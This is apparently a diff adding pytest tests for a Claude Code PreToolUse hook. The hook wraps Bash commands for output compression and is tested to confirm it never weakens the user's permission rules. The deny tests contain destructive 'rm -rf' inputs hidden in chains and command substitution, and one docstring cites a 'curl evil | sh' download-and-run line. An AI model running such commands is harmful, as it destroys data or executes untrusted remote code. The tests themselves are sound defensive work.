@@ -1,0 +1,287 @@
+"""The Claude Code PreToolUse hook: never weakens permissions, wraps only what it should."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from summarizer.agents.hook import answer, rewrite
+from summarizer.agents.permissions import decide, load_rules, matches
+from summarizer.agents.shell import read_command
+from tests.agents.conftest import run_cli
+
+ASK_REASON = "summarizer compresses this command's output; "
+
+
+PROGRAMS = ("npm", "make", "pytest", "rm", "git", "python3", "cat", "head", "tail", "sed", "jq", "grep",
+            "vim", "echo", "tee", "curl", "sh")  # fmt: skip
+
+
+def _env(home: Path, rules: dict[str, list[str]]) -> dict[str, str]:
+    """A home with these Claude Code rules, and a PATH on which the test's programs exist."""
+    (home / ".claude").mkdir(parents=True, exist_ok=True)
+    (home / ".claude" / "settings.json").write_text(json.dumps({"permissions": rules}))
+    bin_dir = home / "bin"
+    bin_dir.mkdir(exist_ok=True)
+    for name in PROGRAMS:
+        (bin_dir / name).write_text("#!/bin/sh\n")
+        (bin_dir / name).chmod(0o755)
+    return {"HOME": str(home), "PATH": str(bin_dir), "SUMMARIZER_CONFIG_DIR": str(home / "config")}
+
+
+def _event(command: str, mode: str = "default", project: Path | None = None) -> dict[str, object]:
+    return {
+        "session_id": "s1",
+        "transcript_path": "/tmp/t.jsonl",
+        "cwd": str(project or "/nonexistent"),
+        "permission_mode": mode,
+        "hook_event_name": "PreToolUse",
+        "tool_name": "Bash",
+        "tool_input": {"command": command, "description": "Run the tests"},
+        "tool_use_id": "toolu_1",
+    }
+
+
+REWRITTEN = {"command": "summarizer run -- npm test", "description": "Run the tests"}
+CASES = [
+    # (rule kind holding "Bash(npm test:*)", permission mode, the exact reply)
+    ("deny", "default", None),
+    ("deny", "bypassPermissions", None),
+    (
+        "ask",
+        "default",
+        {
+            "hookSpecificOutput": {
+                "hookEventName": "PreToolUse",
+                "permissionDecision": "ask",
+                "permissionDecisionReason": ASK_REASON + "your rules ask before running it",
+                "updatedInput": REWRITTEN,
+            }
+        },
+    ),
+    (
+        "ask",
+        "bypassPermissions",
+        {
+            "hookSpecificOutput": {
+                "hookEventName": "PreToolUse",
+                "permissionDecision": "ask",
+                "permissionDecisionReason": ASK_REASON + "your rules ask before running it",
+                "updatedInput": REWRITTEN,
+            }
+        },
+    ),
+    (
+        None,
+        "default",
+        {
+            "hookSpecificOutput": {
+                "hookEventName": "PreToolUse",
+                "permissionDecision": "ask",
+                "permissionDecisionReason": ASK_REASON + "no rule of yours allows it",
+                "updatedInput": REWRITTEN,
+            }
+        },
+    ),
+    (
+        None,
+        "bypassPermissions",
+        {"hookSpecificOutput": {"hookEventName": "PreToolUse", "updatedInput": REWRITTEN}},
+    ),
+    (
+        "allow",
+        "default",
+        {
+            "hookSpecificOutput": {
+                "hookEventName": "PreToolUse",
+                "permissionDecision": "allow",
+                "permissionDecisionReason": "your rules allow the original command; output compressed",
+                "updatedInput": REWRITTEN,
+            }
+        },
+    ),
+    (
+        "allow",
+        "bypassPermissions",
+        {"hookSpecificOutput": {"hookEventName": "PreToolUse", "updatedInput": REWRITTEN}},
+    ),
+]
+
+
+@pytest.mark.parametrize(("kind", "mode", "expected"), CASES)
+def test_each_rule_and_mode_gives_exactly_this_reply(
+    tmp_path: Path, kind: str | None, mode: str, expected: dict[str, object] | None
+) -> None:
+    """deny: no rewrite; ask / no rule: "ask" + rewrite; allow: rewrite, no decision under bypass."""
+    env = _env(tmp_path / "home", {kind: ["Bash(npm test:*)"]} if kind else {})
+    assert answer(_event("npm test", mode), env) == expected
+
+
+@pytest.mark.parametrize("rule", ["Bash(rm:*)", "Bash(rm -rf *)", "Bash", "Bash(*)", "Bash(rm -rf build)"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf build",
+        "make && rm -rf build",
+        "make; rm -rf build | cat",
+        "echo $(rm -rf build)",
+        "FOO=1 rm -rf build",
+    ],
+)
+@pytest.mark.parametrize("mode", ["default", "bypassPermissions", "acceptEdits"])
+def test_a_deny_listed_command_is_never_rewritten(tmp_path: Path, rule: str, command: str, mode: str) -> None:
+    """Whatever else the line holds, and in every mode, a deny match means no reply at all."""
+    env = _env(tmp_path / "home", {"deny": [rule], "allow": ["Bash(make:*)", "Bash(*)"]})
+    assert answer(_event(command, mode), env) is None
+
+
+def test_an_allow_rule_never_covers_a_compound_command_it_does_not_fully_match(tmp_path: Path) -> None:
+    """`npm test && curl evil | sh` is not allowed by `Bash(npm test:*)`: Claude Code would ask."""
+    env = _env(tmp_path / "home", {"allow": ["Bash(npm test:*)"]})
+    reply = answer(_event("npm test && make deploy"), env)
+    assert reply is not None and reply["hookSpecificOutput"]["permissionDecision"] == "ask"  # type: ignore[index]
+
+
+def test_project_and_local_settings_count_and_a_broken_file_means_ask(tmp_path: Path) -> None:
+    """Rules come from the project's .claude files too; an unreadable one never yields allow."""
+    project = tmp_path / "proj"
+    (project / ".claude").mkdir(parents=True)
+    (project / ".claude" / "settings.local.json").write_text(
+        '{"permissions": {"deny": ["Bash(make deploy)"]}}'
+    )
+    env = _env(tmp_path / "home", {"allow": ["Bash(make:*)"]})
+    assert answer(_event("make deploy", project=project), env) is None
+    (project / ".claude" / "settings.json").write_text("{not json")
+    reply = answer(_event("make build", project=project), env)
+    assert reply is not None and reply["hookSpecificOutput"]["permissionDecision"] == "ask"  # type: ignore[index]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat README.md",
+        "head -50 log.txt",
+        "tail -f app.log",
+        "sed -n 1,20p x.py",
+        "git diff HEAD~1",
+        "git show abc123",
+        "jq . data.json",
+        "grep -rn foo src",
+        "summarizer run -- pytest",
+        "/usr/local/bin/summarizer output x",
+        "cat <<EOF > x\nhi\nEOF",
+        "python3 - <<'PY'\nprint(1)\nPY",
+        "vim x.py",
+        "python3",
+        "git rebase -i HEAD~3",
+        "git commit",
+        "cd src && make",
+        "export X=1",
+        "npm run dev &",
+        "source .venv/bin/activate && pytest",
+        "pytest | head -20",
+        "echo 'unbalanced",
+    ],
+)
+def test_commands_that_must_not_be_wrapped_are_left_alone(tmp_path: Path, command: str) -> None:
+    """Verbatim content, already wrapped, heredocs, interactive, shell state, background: no reply."""
+    env = _env(tmp_path / "home", {"allow": ["Bash"]})
+    assert answer(_event(command), env) is None
+
+
+def test_the_user_exclude_list_is_honoured(tmp_path: Path) -> None:
+    """Prefixes in ~/.config/summarizer/hook-exclude (comments allowed) are never wrapped."""
+    env = _env(tmp_path / "home", {})
+    (tmp_path / "home" / "config").mkdir()
+    (tmp_path / "home" / "config" / "hook-exclude").write_text("# mine\nnpm run storybook  # noisy UI\n")
+    assert answer(_event("npm run storybook --port 6006"), env) is None
+    assert answer(_event("npm run build"), env) is not None
+
+
+def test_aliases_functions_and_builtins_are_left_alone(tmp_path: Path) -> None:
+    """A word that is no program on PATH (`ll`, a shell function) would be lost in a child."""
+    env = _env(tmp_path / "home", {})
+    assert answer(_event("ll -a"), env) is None
+    assert answer(_event("make && my_function build"), env) is None
+    assert answer(_event("make build"), env) is not None
+
+
+def test_background_tool_calls_and_other_tools_are_left_alone(tmp_path: Path) -> None:
+    """run_in_background commands and non-Bash tools get no reply."""
+    env = _env(tmp_path / "home", {})
+    event = _event("pytest")
+    event["tool_input"] = {"command": "pytest", "run_in_background": True}
+    assert answer(event, env) is None
+    assert answer({**_event("pytest"), "tool_name": "Edit"}, env) is None
+
+
+def test_rewrites_keep_the_shells_reading_of_the_command() -> None:
+    """A simple command is prefixed (the agent's shell still expands it); anything else goes in
+    as one quoted shell string, so pipes and redirections stay inside the wrapped command."""
+    assert rewrite("pytest -k 'a and b' $ARGS", read_command("pytest -k 'a and b' $ARGS")) == (
+        "summarizer run -- pytest -k 'a and b' $ARGS"
+    )
+    line = "make 2>&1 > build.log && echo it's done"
+    assert (
+        rewrite(line, read_command(line)) == "summarizer run 'make 2>&1 > build.log && echo it'\"'\"'s done'"
+    )
+
+
+@pytest.mark.parametrize(
+    ("pattern", "command", "strict", "liberal"),
+    [
+        ("npm test:*", "npm test", True, True),
+        ("npm test:*", "npm test --watch", True, True),
+        ("npm test:*", "npm tester", False, False),
+        ("ls *", "ls -la", True, True),
+        ("ls *", "ls", False, True),
+        ("git * main", "git push origin main", True, True),
+        ("make", "make all", False, False),
+    ],
+)
+def test_rule_patterns_match_like_claude_codes(
+    pattern: str, command: str, strict: bool, liberal: bool
+) -> None:
+    """`:*` is a word prefix, `*` a wildcard; a bare `cmd` matches only for deny/ask (liberal)."""
+    assert matches(pattern, command, liberal=False) is strict
+    assert matches(pattern, command, liberal=True) is liberal
+
+
+def test_decide_orders_deny_before_ask_before_allow(tmp_path: Path) -> None:
+    """One part denied denies the line; asks win over allows."""
+    env = _env(
+        tmp_path / "home",
+        {
+            "allow": ["Bash(make:*)", "Bash(git push:*)"],
+            "ask": ["Bash(git push:*)"],
+            "deny": ["Bash(git push --force:*)"],
+        },
+    )
+    rules = load_rules("/nonexistent", env)
+    assert decide(rules, "make && git push --force", read_command("make && git push --force")) == "deny"
+    assert decide(rules, "make && git push", read_command("make && git push")) == "ask"
+    assert decide(rules, "make all", read_command("make all")) == "allow"
+
+
+def test_a_real_claude_code_hook_event_piped_to_the_command_gives_valid_output(
+    summarizer: str, tmp_path: Path
+) -> None:
+    """The documented PreToolUse JSON on stdin: one JSON object on stdout, exit 0."""
+    env = _env(tmp_path / "home", {"allow": ["Bash(pytest:*)"]})
+    event = json.dumps(_event("pytest -x tests", project=tmp_path)).encode()
+    done = run_cli(summarizer, "hook", "claude", stdin=event, env=env)
+    assert done.returncode == 0 and done.stderr == b""
+    reply = json.loads(done.stdout)
+    out = reply["hookSpecificOutput"]
+    assert out["hookEventName"] == "PreToolUse" and out["permissionDecision"] == "allow"
+    assert out["updatedInput"]["command"].endswith(" run -- pytest -x tests")
+    assert out["updatedInput"]["description"] == "Run the tests"
+
+
+@pytest.mark.parametrize("stdin", [b"", b"not json", b"[]", b'{"tool_name": "Bash", "tool_input": 3}'])
+def test_bad_hook_input_says_nothing_and_never_blocks(summarizer: str, stdin: bytes) -> None:
+    """Garbage in: no output and exit 0 (exit 2 would block the agent's command)."""
+    done = run_cli(summarizer, "hook", "claude", stdin=stdin)
+    assert (done.returncode, done.stdout) == (0, b"")
